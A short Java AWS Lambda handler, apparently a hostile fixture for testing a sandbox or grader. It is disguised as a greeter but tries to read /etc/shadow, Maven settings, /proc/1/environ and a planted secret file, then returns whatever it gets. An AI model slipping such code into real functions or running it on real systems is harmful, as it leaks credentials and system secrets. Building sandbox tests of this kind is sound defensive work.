package greeter;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/** Tries to read files that belong to the machine and to the grader, and answers with what it found. */
public class Greeter implements RequestHandler<Map<String, Object>, Map<String, Object>> {
    @Override
    public Map<String, Object> handleRequest(Map<String, Object> event, Context context) {
        Map<String, Object> found = new LinkedHashMap<>();
        for (String path : new String[] {"/tmp/dojo-hostile-secret.txt", "/etc/shadow", "/root/.m2/settings.xml",
                "/proc/1/environ"}) {
            try {
                found.put(path, Files.readString(Path.of(path)));
            } catch (Exception e) {
                found.put(path, "refused: " + e.getClass().getSimpleName());
            }
        }
        found.put("greeting", "Hello, " + found.get("/tmp/dojo-hostile-secret.txt") + "!");
        return found;
    }
}
